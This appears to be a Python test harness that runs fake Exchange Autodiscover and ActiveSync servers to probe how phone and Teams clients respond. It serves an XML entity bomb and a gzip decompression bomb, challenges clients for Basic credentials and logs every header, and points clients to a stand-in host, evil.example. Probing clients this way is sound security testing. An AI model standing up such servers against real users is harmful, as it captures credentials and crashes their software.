#!/usr/bin/env python3
"""HTTPS peers for the phones' and Teams' requests (issue 12), logging every request's headers.

  mobile_peer.py CONFIG_JSON READY_FILE

CONFIG_JSON is a list of servers, all run by this one process:
  [{"ip": "127.0.0.10", "port": 443, "log": "/tmp/x.log", "tls": ["cert.pem", "key.pem"],
    "mobilesync_url": "https://evil.example/Microsoft-Server-ActiveSync"}]
Requests without Authorization get 401 Basic (OPTIONS and the POSTs). With it: a POST in the
mobilesync schema gets a settings answer naming "mobilesync_url" (or, when the address asked
for starts with "bomb", an XML entity bomb); OPTIONS gets 200 with MS-ASProtocolVersions. Any
GET on /autodiscover/autodiscover.json gets 200 "Content-Encoding: gzip" holding 10 MB inflated.
Optional: "redirect_to": an address starting with "redir" is answered with a mobilesync Redirect
to it; "location": the server speaks plain http and answers every request 302 to that URL.
"""
import gzip
import http.server
import json
import ssl
import sys
import threading

OUTER = "http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006"
MOBILE = "http://schemas.microsoft.com/exchange/autodiscover/mobilesync/responseschema/2006"
BOMB = ('<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">'
        + "".join(f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi"))
        + f']><Autodiscover xmlns="{OUTER}"><Response xmlns="{MOBILE}"><Action><Settings><Server>'
        '<Type>MobileSync</Type><Url>&i;</Url></Server></Settings></Action></Response></Autodiscover>')
GZIP_BOMB = gzip.compress(b"{" + b" " * (10 * 1024 * 1024) + b"}")


def make_server(spec):
    lock = threading.Lock()

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args):
            pass

        def reply(self, status, body=b"", headers=()):
            self.send_response(status)
            for k, v in headers:
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def answer(self):
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if 0 < length <= 1 << 20 else b""
            with lock, open(spec["log"], "a") as f:
                f.write(json.dumps({"method": self.command, "path": self.path,
                                    "headers": [[k, v] for k, v in self.headers.items()]}) + "\n")
            if "location" in spec:
                return self.reply(302, b"", [("Location", spec["location"])])
            if self.command == "GET" and self.path.lower().startswith("/autodiscover/autodiscover.json"):
                return self.reply(200, GZIP_BOMB, [("Content-Type", "application/json"), ("Content-Encoding", "gzip")])
            if "Authorization" not in self.headers:
                return self.reply(401, b"no\n", [("WWW-Authenticate", 'Basic realm="eas"')])
            if self.command == "OPTIONS":
                return self.reply(200, b"", [("MS-ASProtocolVersions", "14.1,16.0,16.1"), ("Allow", "OPTIONS,POST")])
            if b"mobilesync/requestschema" in body:
                if b"<EMailAddress>bomb" in body:
                    return self.reply(200, BOMB.encode(), [("Content-Type", "text/xml")])
                if b"<EMailAddress>redir" in body and "redirect_to" in spec:
                    xml = (f'<Autodiscover xmlns="{OUTER}"><Response xmlns="{MOBILE}"><Culture>en:us</Culture>'
                           f'<Action><Redirect>{spec["redirect_to"]}</Redirect></Action></Response></Autodiscover>')
                    return self.reply(200, xml.encode(), [("Content-Type", "text/xml")])
                url = spec["mobilesync_url"]
                xml = (f'<Autodiscover xmlns="{OUTER}"><Response xmlns="{MOBILE}"><Culture>en:us</Culture><Action>'
                       f"<Settings><Server><Type>MobileSync</Type><Url>{url}</Url><Name>{url}</Name></Server>"
                       "</Settings></Action></Response></Autodiscover>")
                return self.reply(200, xml.encode(), [("Content-Type", "text/xml")])
            return self.reply(404, b"no\n")

        do_GET = do_POST = do_OPTIONS = answer

    server = http.server.ThreadingHTTPServer((spec["ip"], spec["port"]), Handler)
    server.daemon_threads = True
    if "tls" in spec:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(*spec["tls"])
        server.socket = ctx.wrap_socket(server.socket, server_side=True)
    return server


def main():
    servers = [make_server(spec) for spec in json.load(open(sys.argv[1]))]
    for s in servers[1:]:
        threading.Thread(target=s.serve_forever, daemon=True).start()
    open(sys.argv[2], "w").close()
    servers[0].serve_forever()


if __name__ == "__main__":
    main()
